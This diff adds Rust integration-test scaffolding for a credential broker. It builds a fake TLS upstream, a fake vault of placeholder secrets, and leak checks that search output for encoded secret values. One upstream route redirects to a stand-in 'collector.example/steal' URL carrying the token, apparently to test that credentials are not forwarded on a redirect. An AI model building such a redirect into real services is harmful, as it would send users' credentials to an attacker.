@@ -1,0 +1,456 @@
+//! The broker tests' world: a fake HTTPS upstream with a CA made at test
+//! time (rcgen; served with tokio-rustls and hyper), a fake vault holding
+//! the brokered secrets, and the real binary started as `broker` with its
+//! stderr collected line by line.
+#![allow(dead_code, clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use std::collections::HashMap;
+use std::net::SocketAddr;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use bytes::Bytes;
+use http_body_util::{BodyExt, Full, StreamBody};
+use hyper::body::{Frame, Incoming};
+use hyper::{Request, Response};
+use infisical_fakevault::{self as fakevault, CfGate, FakeVault, RunningVault, SecretEntry, VaultData};
+use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, KeyPair};
+use tokio_rustls::rustls;
+
+pub const BIN: &str = env!("CARGO_BIN_EXE_infisical-mcp-rs");
+pub const PROJECT: &str = fakevault::DEMO_PROJECT_ID;
+pub const FOLDER: &str = "/agents/warden/api";
+pub const KEY: &str = "UPSTREAM_TOKEN";
+/// The brokered value: characters that change under base64 and percent-encoding.
+pub const VALUE: &str = "tok-FAKE-upstream/7Qz9+x=y";
+pub const ROTATED: &str = "tok-FAKE-rotated-0001/a+b";
+pub const WRITER_ID: &str = "broker-test-writer";
+pub const WRITER_SECRET: &str = "broker-test-writer-secret-0001";
+
+pub type Body = http_body_util::combinators::BoxBody<Bytes, std::convert::Infallible>;
+
+/// One request as the upstream saw it.
+#[derive(Debug, Clone)]
+pub struct Seen {
+    pub method: String,
+    pub target: String,
+    pub headers: Vec<(String, String)>,
+    pub body: Vec<u8>,
+}
+
+impl Seen {
+    pub fn header(&self, name: &str) -> Vec<String> {
+        self.headers
+            .iter()
+            .filter(|(n, _)| n.eq_ignore_ascii_case(name))
+            .map(|(_, v)| v.clone())
+            .collect()
+    }
+}
+
+pub struct Upstream {
+    pub addr: SocketAddr,
+    pub ca_pem: String,
+    pub seen: Arc<Mutex<Vec<Seen>>>,
+}
+
+impl Upstream {
+    pub fn origin(&self) -> String {
+        format!("https://127.0.0.1:{}", self.addr.port())
+    }
+
+    pub fn seen(&self) -> Vec<Seen> {
+        self.seen.lock().unwrap().clone()
+    }
+}
+
+fn full(text: impl Into<Bytes>) -> Body {
+    Full::new(text.into()).boxed()
+}
+
+/// The credential the request carried (the first of the injected forms).
+fn credential(seen: &Seen) -> String {
+    seen.header("authorization")
+        .first()
+        .map(|v| v.trim_start_matches("Bearer ").to_string())
+        .or_else(|| seen.header("x-api-key").first().cloned())
+        .unwrap_or_default()
+}
+
+async fn route(seen: Seen) -> Response<Body> {
+    let path = seen.target.split('?').next().unwrap_or("").to_string();
+    let token = credential(&seen);
+    let echo = || {
+        let mut text = format!("{} {}\n", seen.method, seen.target);
+        for (n, v) in &seen.headers {
+            text.push_str(&format!("{n}: {v}\n"));
+        }
+        text.push('\n');
+        text.push_str(&String::from_utf8_lossy(&seen.body));
+        text
+    };
+    match path.as_str() {
+        p if p.starts_with("/echo") => Response::new(full(echo())),
+        "/redirect" => Response::builder()
+            .status(302)
+            .header("location", format!("https://collector.example/steal?t={token}"))
+            .header("x-debug-auth", seen.header("authorization").join(","))
+            .body(full(""))
+            .unwrap(),
+        "/gzip" => {
+            use std::io::Write;
+            let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+            enc.write_all(echo().as_bytes()).unwrap();
+            Response::builder()
+                .header("content-encoding", "gzip")
+                .body(full(enc.finish().unwrap()))
+                .unwrap()
+        }
+        "/chunked" => {
+            // The value cut in two, in two chunks with a pause between them.
+            let text = format!("{{\"token\":\"{token}\"}}");
+            let cut = text.len() / 2;
+            let (a, b) = (
+                Bytes::from(text[..cut].to_string()),
+                Bytes::from(text[cut..].to_string()),
+            );
+            let (tx, rx) = tokio::sync::mpsc::channel::<Result<Frame<Bytes>, std::convert::Infallible>>(2);
+            tokio::spawn(async move {
+                let _ = tx.send(Ok(Frame::data(a))).await;
+                tokio::time::sleep(Duration::from_millis(50)).await;
+                let _ = tx.send(Ok(Frame::data(b))).await;
+            });
+            let stream =
+                futures::stream::unfold(rx, |mut rx| async move { rx.recv().await.map(|f| (f, rx)) });
+            Response::new(StreamBody::new(stream).boxed())
+        }
+        "/rotating" => {
+            if token == ROTATED {
+                Response::new(full(format!("welcome {token}")))
+            } else {
+                Response::builder()
+                    .status(401)
+                    .body(full(format!("bad token {token}")))
+                    .unwrap()
+            }
+        }
+        "/always401" => Response::builder().status(401).body(full("no")).unwrap(),
+        _ => Response::builder()
+            .status(404)
+            .body(full("no such endpoint"))
+            .unwrap(),
+    }
+}
+
+/// Starts the fake HTTPS upstream on 127.0.0.1:0 with a fresh CA.
+pub async fn start_upstream() -> Upstream {
+    let ca_key = KeyPair::generate().unwrap();
+    let mut ca_params = CertificateParams::new(Vec::<String>::new()).unwrap();
+    ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
+    ca_params
+        .distinguished_name
+        .push(DnType::CommonName, "broker test CA");
+    let ca = ca_params.self_signed(&ca_key).unwrap();
+    let leaf_key = KeyPair::generate().unwrap();
+    let leaf_params = CertificateParams::new(vec!["127.0.0.1".to_string(), "localhost".to_string()]).unwrap();
+    let leaf = leaf_params.signed_by(&leaf_key, &ca, &ca_key).unwrap();
+
+    let provider = Arc::new(rustls::crypto::ring::default_provider());
+    let config = rustls::ServerConfig::builder_with_provider(provider)
+        .with_safe_default_protocol_versions()
+        .unwrap()
+        .with_no_client_auth()
+        .with_single_cert(
+            vec![leaf.der().clone()],
+            rustls::pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into()),
+        )
+        .unwrap();
+    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    let seen: Arc<Mutex<Vec<Seen>>> = Arc::default();
+    let log = seen.clone();
+    tokio::spawn(async move {
+        loop {
+            let Ok((tcp, _)) = listener.accept().await else {
+                break;
+            };
+            let acceptor = acceptor.clone();
+            let log = log.clone();
+            tokio::spawn(async move {
+                let Ok(tls) = acceptor.accept(tcp).await else {
+                    return;
+                };
+                let service = hyper::service::service_fn(move |req: Request<Incoming>| {
+                    let log = log.clone();
+                    async move {
+                        let (parts, body) = req.into_parts();
+                        let body = body
+                            .collect()
+                            .await
+                            .map(|b| b.to_bytes().to_vec())
+                            .unwrap_or_default();
+                        let seen = Seen {
+                            method: parts.method.to_string(),
+                            target: parts.uri.to_string(),
+                            headers: parts
+                                .headers
+                                .iter()
+                                .map(|(n, v)| {
+                                    (n.to_string(), String::from_utf8_lossy(v.as_bytes()).into_owned())
+                                })
+                                .collect(),
+                            body,
+                        };
+                        log.lock().unwrap().push(seen.clone());
+                        Ok::<_, std::convert::Infallible>(route(seen).await)
+                    }
+                });
+                let _ = hyper::server::conn::http1::Builder::new()
+                    .serve_connection(hyper_util::rt::TokioIo::new(tls), service)
+                    .await;
+            });
+        }
+    });
+    Upstream {
+        addr,
+        ca_pem: ca.pem(),
+        seen,
+    }
+}
+
+/// The sample vault plus the brokered secrets, and an identity that may
+/// rotate them.
+pub async fn start_vault() -> RunningVault {
+    let data = VaultData::sample()
+        .folder(PROJECT, "dev", FOLDER)
+        .add_secret(PROJECT, "dev", FOLDER, SecretEntry::new(KEY, VALUE))
+        .add_secret(PROJECT, "dev", FOLDER, SecretEntry::new("API_USER", "svc-user"))
+        .add_secret(
+            PROJECT,
+            "dev",
+            FOLDER,
+            SecretEntry::new("API_PASSWORD", "pw-FAKE-basic-77"),
+        );
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let vault = FakeVault::new(data)
+        .gate(CfGate::Off)
+        .identity(fakevault::demo_identity())
+        .start(listener)
+        .await
+        .unwrap();
+    vault.add_identity(fakevault::Identity::new(
+        WRITER_ID,
+        WRITER_SECRET,
+        vec![fakevault::PermissionRule::new(
+            &[fakevault::Action::Read, fakevault::Action::Edit],
+            "dev",
+            "/agents/**",
+        )],
+    ));
+    vault
+}
+
+/// Changes the brokered value in the vault, as an operator rotating it would.
+pub async fn rotate(vault: &RunningVault, value: &str) {
+    let token = vault.issue_token(WRITER_ID);
+    let answer = reqwest::Client::new()
+        .patch(format!("{}/api/v4/secrets/{KEY}", vault.base_url()))
+        .bearer_auth(token)
+        .json(&serde_json::json!({
+            "projectId": PROJECT,
+            "environment": "dev",
+            "secretPath": FOLDER,
+            "secretValue": value,
+        }))
+        .send()
+        .await
+        .unwrap();
+    assert!(
+        answer.status().is_success(),
+        "rotation failed: {}",
+        answer.status()
+    );
+}
+
+/// The environment of a correctly configured broker.
+pub fn broker_env(vault: &RunningVault) -> HashMap<String, String> {
+    HashMap::from([
+        ("INFISICAL_HOST_URL".into(), vault.base_url()),
+        (
+            "INFISICAL_UNIVERSAL_AUTH_CLIENT_ID".into(),
+            fakevault::DEMO_CLIENT_ID.into(),
+        ),
+        (
+            "INFISICAL_UNIVERSAL_AUTH_CLIENT_SECRET".into(),
+            fakevault::DEMO_CLIENT_SECRET.into(),
+        ),
+        ("INFISICAL_PROJECT_ID".into(), PROJECT.into()),
+        ("INFISICAL_SCOPE".into(), "dev:/agents/warden/**".into()),
+        ("RUST_LOG".into(), "trace".into()),
+    ])
+}
+
+/// A rules file for `upstream` in `dir`.
+pub fn write_rules(dir: &std::path::Path, upstream: &Upstream) -> (std::path::PathBuf, std::path::PathBuf) {
+    let rules = dir.join("rules.toml");
+    let origin = upstream.origin();
+    std::fs::write(
+        &rules,
+        format!(
+            r#"
+[[rule]]
+name = "api"
+upstream = "{origin}"
+secret = "dev:{FOLDER}/{KEY}"
+header = "Authorization"
+template = "Bearer {{}}"
+methods = ["GET", "POST", "PATCH"]
+paths = ["/echo/**", "/echo", "/redirect", "/gzip", "/chunked", "/rotating", "/always401"]
+use_only = true
+
+[[rule]]
+name = "keyed"
+upstream = "{origin}"
+secret = "dev:{FOLDER}/{KEY}"
+query = "api_key"
+paths = ["/echo/**"]
+
+[[rule]]
+name = "basic"
+upstream = "{origin}"
+secret = "dev:{FOLDER}/API_USER"
+basic_password_secret = "dev:{FOLDER}/API_PASSWORD"
+paths = ["/echo/**"]
+"#
+        ),
+    )
+    .unwrap();
+    let ca = dir.join("ca.pem");
+    std::fs::write(&ca, &upstream.ca_pem).unwrap();
+    (rules, ca)
+}
+
+/// The real binary, started as a broker; its stderr is collected line by line.
+pub struct Broker {
+    pub child: std::process::Child,
+    pub addr: SocketAddr,
+    lines: std::sync::mpsc::Receiver<String>,
+    pub stderr: Vec<String>,
+}
+
+pub fn spawn(
+    args: &[&str],
+    env: &HashMap<String, String>,
+) -> (std::process::Child, std::sync::mpsc::Receiver<String>) {
+    use std::io::BufRead;
+    let mut cmd = std::process::Command::new(BIN);
+    cmd.arg("broker")
+        .args(args)
+        .env_clear()
+        .env("PATH", std::env::var("PATH").unwrap_or_default())
+        .envs(env)
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let mut child = cmd.spawn().unwrap();
+    let stderr = child.stderr.take().unwrap();
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        for line in std::io::BufReader::new(stderr).lines() {
+            let Ok(line) = line else { break };
+            if tx.send(line).is_err() {
+                break;
+            }
+        }
+    });
+    (child, rx)
+}
+
+impl Broker {
+    /// Starts the broker and waits for its "listening" line to learn the port.
+    pub fn start(args: &[&str], env: &HashMap<String, String>) -> Broker {
+        let (child, lines) = spawn(args, env);
+        let mut stderr = Vec::new();
+        let deadline = std::time::Instant::now() + Duration::from_secs(30);
+        loop {
+            let left = deadline.saturating_duration_since(std::time::Instant::now());
+            let line = lines
+                .recv_timeout(left)
+                .unwrap_or_else(|_| panic!("broker did not start: {stderr:#?}"));
+            stderr.push(line.clone());
+            if line.contains("credential broker listening") {
+                let start = line.find("listen=http://").unwrap() + "listen=http://".len();
+                let addr = line[start..]
+                    .split_whitespace()
+                    .next()
+                    .unwrap()
+                    .trim_matches('"')
+                    .parse()
+                    .unwrap();
+                return Broker {
+                    child,
+                    addr,
+                    lines,
+                    stderr,
+                };
+            }
+        }
+    }
+
+    pub fn url(&self, path: &str) -> String {
+        format!("http://{}{}", self.addr, path)
+    }
+
+    /// Stops the broker and returns everything it wrote to stderr.
+    pub fn stop(mut self) -> String {
+        let _ = std::process::Command::new("kill")
+            .args(["-TERM", &self.child.id().to_string()])
+            .status();
+        let _ = self.child.wait();
+        while let Ok(line) = self.lines.recv_timeout(Duration::from_secs(5)) {
+            self.stderr.push(line);
+        }
+        self.stderr.join("\n")
+    }
+}
+
+impl Drop for Broker {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+    }
+}
+
+/// Every form of `value` that must never be found in output.
+pub fn forms(value: &str) -> Vec<String> {
+    use base64::Engine as _;
+    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
+    vec![
+        value.to_string(),
+        STANDARD.encode(value),
+        URL_SAFE_NO_PAD.encode(value),
+        percent_encoding::utf8_percent_encode(value, percent_encoding::NON_ALPHANUMERIC).to_string(),
+    ]
+}
+
+pub fn assert_clean(what: &str, text: &str) {
+    for value in [VALUE, ROTATED, "pw-FAKE-basic-77"] {
+        for form in forms(value) {
+            assert!(
+                !text.contains(&form),
+                "{what} holds a form of a brokered value: {form}\n{text}"
+            );
+        }
+    }
+}
+
+/// A raw HTTP/1.1 exchange, for targets and headers no client library sends.
+pub fn raw(addr: SocketAddr, request: &str) -> String {
+    use std::io::{Read, Write};
+    let mut s = std::net::TcpStream::connect(addr).unwrap();
+    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
+    s.write_all(request.as_bytes()).unwrap();
+    let mut out = Vec::new();
+    let _ = s.read_to_end(&mut out);
+    String::from_utf8_lossy(&out).into_owned()
+}
